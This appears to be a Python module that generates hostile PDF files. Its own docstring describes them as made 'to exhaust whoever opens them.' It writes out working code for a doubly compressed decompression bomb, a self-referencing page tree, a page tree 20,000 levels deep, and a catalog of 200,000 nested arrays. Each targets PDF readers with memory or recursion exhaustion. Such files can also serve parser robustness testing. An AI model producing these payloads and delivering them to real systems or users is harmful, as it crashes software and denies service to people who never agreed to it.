"""Files made to exhaust whoever opens them."""

import zlib


def _assembled(*objects: bytes) -> bytes:
    """Number `objects` from 1 and write them with a cross-reference table; 1 is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R>>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (entries, len(data), data)


def bomb_pdf(megabytes: int = 600) -> bytes:
    """A page whose drawing instructions unpack to `megabytes`, packed twice over."""
    packer, block, check = zlib.compressobj(9), b"0 0 m 9 9 l S \n" * 70_000, 1
    start = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    # After a full flush, packing the same block gives the same bytes: pack once, repeat.
    repeated = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    for _ in range(megabytes):
        check = zlib.adler32(block, check)
    packed = start + repeated * (megabytes - 1) + b"\x03\x00" + check.to_bytes(4, "big")
    packed = zlib.compress(packed, 9)
    return _assembled(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        _stream(b"/Filter[/FlateDecode/FlateDecode]", packed),
    )


def looping_pdf() -> bytes:
    """A page tree that contains itself."""
    return _assembled(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 3 0 R>>",
        b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
    )


def deep_pdf(depth: int = 20_000) -> bytes:
    """A page tree `depth` nodes deep with one page at the end."""
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (number + 1, max(number - 1, 1))
        for number in range(2, depth + 2)
    ]
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>" % (depth + 1)
    return _assembled(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, page)


def nested_pdf(depth: int = 200_000) -> bytes:
    """A catalog holding a list in a list in a list."""
    nested = b"[" * depth + b"]" * depth
    return _assembled(
        b"<</Type/Catalog/Pages 2 0 R/Nested %s>>" % nested,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )
